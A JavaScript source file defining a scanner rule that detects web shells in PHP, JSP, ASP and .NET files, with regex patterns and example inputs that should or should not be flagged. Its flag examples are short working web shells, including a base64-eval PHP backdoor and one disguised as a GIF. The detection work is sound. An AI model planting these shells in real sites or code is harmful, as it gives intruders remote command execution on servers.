import { defineByteRule } from '../byteRule.js';

export const webShell = defineByteRule({
  id: 'web-shell',
  severity: 'high',
  message: 'It holds a page that runs whatever a request says.',
  why: 'It is how intruders stay on web servers; a plugin is none.',
  text: /\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\b|getRuntime\(\)|(?:eval|execute|executeglobal)\s?\(?\s?request|Process\.Start\(/i,
  strings: String.raw`
    $page = /<\?(php|=)/ nocase
    $php = /(eval|assert|system|exec|passthru|shell_exec|popen|proc_open|create_function)\s?\(\s?@?((base64_decode|gzinflate|str_rot13|stripslashes|trim|urldecode)\s?\(\s?){0,3}["']?\$_(GET|POST|REQUEST|COOKIE|SERVER)\b/ nocase
    $jsp = /getRuntime\(\)\s?\.exec\(\s?request\.getParameter\(/
    $asp = /(eval|execute|executeglobal)\s?\(?\s?request(\.item|\.form|\.querystring)?\s?[\[(]\s?["']/ nocase
    $net = /Process\.Start\([^\n]{0,60}Request(\.Form|\.QueryString)?\s?\[/`,
  condition: '($page and $php) or $jsp or $asp or $net',
  examples: {
    flags: [
      { path: 'x.php', content: '<?php @eval(base64_decode($_POST["a"]));' },
      { path: 'logo.gif', content: 'GIF89a;<?= system($_GET[0]) ?>' },
      { path: 'x.jsp', content: '<% Runtime.getRuntime().exec(request.getParameter("c")); %>' },
      { path: 'x.asp', content: '<%eval request("a")%>' },
    ],
    passes: [
      { path: 'page.php', content: '<?php echo htmlspecialchars($_GET["name"]); system("date");' },
      { path: 'grammar.js', content: "const words = 'eval exec system $_GET';" },
    ],
  },
});
